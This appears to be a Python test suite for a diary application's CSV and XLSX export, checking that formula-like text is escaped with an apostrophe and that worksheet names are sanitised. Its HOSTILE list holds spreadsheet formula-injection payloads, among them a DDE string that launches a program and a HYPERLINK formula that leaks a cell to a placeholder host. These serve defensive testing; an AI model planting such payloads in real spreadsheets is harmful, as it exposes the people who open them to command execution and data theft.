"""What we write for spreadsheets is read back as it was meant, and nothing in it is worked out."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ediary.core import workbooks
from ediary.core.workbooks import Cell, Table, csv_of, meant, neutral, sayable, xlsx_of
from tests.conftest import MORNING

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.invalid?"&A1)',
    "+37060000000",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = [
    "",
    "Žemaitė",
    "1+1=2",
    "a@b.lt",
    "'kabutės'",
    "'",
    "–5",
    "„=“",
    "V-12",
    "38501010012",
    "007",
    "http://x.lt",
]
#: sentences of people and of those who try
texts = st.text(max_size=60) | st.sampled_from(HOSTILE + HARMLESS) | st.from_regex(r"['=+\-@\t\r\n ]{1,4}.{0,9}")
cells = texts | st.integers(-(10**12), 10**12) | st.dates(date(1900, 3, 1), date(2199, 12, 31)) | st.none()
grids = st.lists(st.lists(cells, min_size=3, max_size=3), max_size=6)


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes) -> list[list[Any]]:
    """The cells of the first worksheet; none of them is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    book = openpyxl.load_workbook(io.BytesIO(content))
    rows = list(book.worksheets[0].iter_rows())
    assert not [cell for row in rows for cell in row if cell.data_type == "f" or cell.hyperlink]
    return [[cell.value for cell in row] for row in rows]


# --- CSV ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_be_worked_out_gets_an_apostrophe(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text == meant(text)


@given(texts)
def test_what_was_meant_is_found_again(text: str) -> None:
    assert meant(neutral(text)) == text


@given(grids)
def test_a_csv_reads_back_and_no_text_in_it_is_worked_out(grid: list[list[Cell]]) -> None:
    head, *rows = read_csv(csv_of(["a", "=b", "č"], grid))
    assert head == ["a", "'=b", "č"]
    assert len(rows) == len(grid)
    for row, wanted in zip(rows, grid, strict=True):
        for text, cell in zip(row, wanted, strict=True):
            if isinstance(cell, str):
                assert meant(text) == sayable(cell)
                assert not text.lstrip(" '\u00a0").startswith(tuple(workbooks._STARTS)) or text.startswith("'")
            elif isinstance(cell, int):
                assert int(text) == cell
            else:
                assert text == ("" if cell is None else cell.isoformat())


def test_a_csv_opens_in_excel_by_a_double_click() -> None:
    content = csv_of(["Vardas", "Gimė"], [['Žiedė; „a“ "b"', date(2021, 3, 5)], [None, 12]])
    assert content == '\ufeffVardas;Gimė\r\n"Žiedė; „a“ ""b""";2021-03-05\r\n;12\r\n'.encode()


# --- XLSX -----------------------------------------------------------------------------------------------------------


@given(grids)
def test_a_workbook_reads_back_and_no_cell_is_a_formula(grid: list[list[Cell]]) -> None:
    head, *rows = read_xlsx(xlsx_of([Table("Vaikai", ["a", "=b", "č"], grid)], "Vaikai", MORNING))
    assert head == ["a", "=b", "č"]
    for number, wanted in enumerate(grid):
        row = rows[number] if number < len(rows) else [None] * 3  # empty rows at the end are not kept
        for value, cell in zip(row, wanted, strict=True):
            if isinstance(cell, str):
                assert (value or "") == sayable(cell)
            elif isinstance(cell, date):
                assert value.date() == cell
            else:
                assert value == cell


def test_a_text_too_long_for_a_cell_is_cut_and_not_lost() -> None:
    [[head]] = read_xlsx(xlsx_of([Table("a", ["x" * 40_000], [])], "a", MORNING))
    assert head == "x" * 32_767


def test_numbers_in_text_stay_text_and_links_stay_words() -> None:
    [_, row] = read_xlsx(xlsx_of([Table("a", ["k", "u"], [["007", "https://x.lt"]])], "a", MORNING))
    assert row == ["007", "https://x.lt"]


def test_the_same_tables_make_the_same_file() -> None:
    tables = [Table("A", ["a"], [["x"]]), Table("a", [], [])]
    assert xlsx_of(tables, "t", MORNING) == xlsx_of(tables, "t", MORNING)


@pytest.mark.parametrize(
    ("names", "safe"),
    [
        (["Boružiukai", "Drugeliai"], ["Boružiukai", "Drugeliai"]),
        (["A/B: [x]*?\\", ""], ["A B x", "–"]),
        (["saulė", "SAULĖ", "Saulė"], ["saulė", "SAULĖ (2)", "Saulė (3)"]),
        (["x" * 40, "x" * 40], ["x" * 31, "x" * 27 + " (2)"]),
        (["History", "'kabutės'"], ["History (2)", "kabutės"]),
    ],
)
def test_worksheets_get_names_a_spreadsheet_accepts(names: list[str], safe: list[str]) -> None:
    assert workbooks.sheet_names(names) == safe
